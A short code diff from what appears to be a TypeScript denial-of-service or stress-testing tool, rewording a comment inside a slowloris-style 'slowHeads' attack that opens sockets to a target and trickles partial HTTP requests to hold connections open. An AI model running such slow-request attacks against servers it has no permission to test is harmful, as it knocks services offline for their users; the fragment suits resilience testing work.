@@ -33,7 +33,7 @@ export const slowHeads: Attack = {
     const trickle = async (connection: number) => {
       const socket = await openAttackingSocket(target, connection % 6, signal);
       socket.resume();
-      // Half of them stop in the head, half in the body.
+      // Half of the requests stop within the head, half within the body.
       const quick = connection % 2 === 0 ? 20 : request.length - 40;
       socket.write(request.slice(0, quick));
       for (let at = quick; at < request.length - 1 && !socket.destroyed; at += 1) {
